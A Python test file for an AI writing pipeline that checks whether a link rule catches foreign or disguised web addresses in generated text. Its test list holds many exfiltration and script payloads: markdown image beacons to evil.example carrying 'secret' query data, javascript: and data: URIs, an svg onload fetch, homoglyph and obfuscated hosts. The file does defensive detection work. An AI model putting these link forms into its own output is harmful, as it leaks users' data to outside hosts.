"""A text leads nowhere but to its sources: the forms of S13, and what only looks like a link."""

from __future__ import annotations

import pytest

from aiwriter.documents import Verdict
from aiwriter.pipeline import formats, quality
from aiwriter.pipeline.quality import links
from aiwriter.text.web_links import web_links

FORMS = [
    "![x](https://evil.example/p?d=1)",
    "![x](//evil.example/p)",
    "[more](https://evil.example)",
    "[more](/local/path?d=1)",
    "[more][1]",
    "[1]: https://evil.example/p",
    "![x][beacon]",
    "<https://evil.example/p>",
    "https://evil.example/p?q=secret",
    "HTTPS://EVIL.EXAMPLE/P",
    "http:/\u200b/evil.example/p",
    "http:\\\\evil.example\\p",
    "//evil.example/p",
    "www.evil.example",
    "evil.example",
    "evil.com",
    "evil.com/p",
    "sub.evil.co.uk/p?x=1",
    "evil.example:8080/p",
    "hxxps://evil.example/p",
    "evil[.]com",
    "evil(dot)com",
    "evil dot com",
    "https&#58;//evil.example/p",
    "https%3A%2F%2Fevil.example%2Fp",
    "ｈｔｔｐｓ：／／evil.example",
    "evil。com",
    "xn--e1awd7f.com",
    "https://xn--80ak6aa92e.com/",
    "kestre1sound.example",
    "kestrеlsound.com",
    "http://198.51.100.7/p",
    "198.51.100.7:8000/p",
    "http://[2001:db8::1]/p",
    "http://user:pw@evil.example/",
    "javascript:alert(1)",
    "JaVa\tScript:alert(1)",
    "java&#115;cript:fetch(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:,secret",
    "mailto:x@evil.example?body=secret",
    "ftp://evil.example/p",
    "<img src=https://evil.example/p>",
    "<img srcset='evil.example/a 1x'>",
    "<a href='/x' ping='//evil.example'>x</a>",
    "<svg onload=fetch(1)>",
    "<link rel=prefetch href=//evil.example>",
    "<style>@import 'evil.css'</style>",
    "background: url(https://evil.example/p)",
    "<iframe srcdoc='x'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=/steal>",
]


@pytest.mark.parametrize("form", FORMS)
def test_no_other_address_stands_in_any_form(draft, evidence, brief, fmt, form):
    written = draft([f"The ferry sails at night, see {form} for more."])
    assert links.check(written, evidence("The ferry sails at night."), brief, fmt).findings


@pytest.mark.parametrize(
    "text",
    [
        "The rate rose from 3.5 to 4.2 (see table 2), and/or fell.",
        "It uses Node.js, ASP.NET and main.py; see README.md.",
        "JavaScript: The Good Parts is a book.",
        "Data: the figures are of 2024.",
        "U.S. and U.K. ships met at 10:30, i.e. late.",
        "If a < b and c > d, then x = y.",
        "The note [sic] was (partly) lost.",
        "The ratio was 3//4, or 1:2, on Aug. 5.It held.",
        "Die Fähre fährt um 10.30 Uhr, z.B. nach Vell, d.h. nachts.",
        "Version 1.2.3.4 came out.",
        "About: what it tells.",
    ],
)
def test_what_only_looks_like_a_link_is_none(text):
    assert web_links(text) == []


def test_an_address_that_was_fetched_and_a_site_its_source_names_may_stand(draft, evidence, brief, fmt):
    given = evidence("Tickets are sold by Kestrel.com.")
    fetched = given.sources[0].model_copy(update={"location": "https://www.kestrel.example/faq/"})
    given = given.model_copy(update={"sources": (fetched,)})
    key = given.items[0].passage.id
    written = draft(["It stands at https://kestrel.example/faq.", ("Tickets are sold by Kestrel.com.", [key])])
    assert links.check(written, given, brief, fmt).findings == ()
    other = draft(["It stands at https://kestrel.example/faq?u=secret.", "Tickets are sold by Kestrel.com."])
    assert len(links.check(other, given, brief, fmt).findings) == 2


def test_a_host_that_passes_for_a_source_is_called_so(draft, evidence, brief, fmt):
    given = evidence("Text.")
    fetched = given.sources[0].model_copy(update={"location": "https://kestrelsound.com/faq"})
    given = given.model_copy(update={"sources": (fetched,)})
    for host in ("kestrеlsound.com", "kestre1sound.com", "kestrelsond.com", "kestrelsound.com.evil.org"):
        result = links.check(draft([f"See {host}."]), given, brief, fmt)
        assert [finding.rule for finding in result.findings] == ["links.lookalike"], host


def test_a_sentence_with_a_foreign_address_does_not_stand_and_a_title_with_one_refuses(draft, evidence, brief):
    given, fmt = evidence("The ferry sails at night."), formats.load("blog_post")
    written = draft([("The ferry sails at night: evil.example/p.", [given.items[0].passage.id])])
    report = quality.judge(written, given, brief, fmt, (*quality.CHECKS,))
    assert report.sentences[0].probability == 0
    titled = written.model_copy(update={"title": "Night https://evil.example"})
    assert quality.judge(titled, given, brief, fmt, (links.check,)).verdict is Verdict.REFUSE
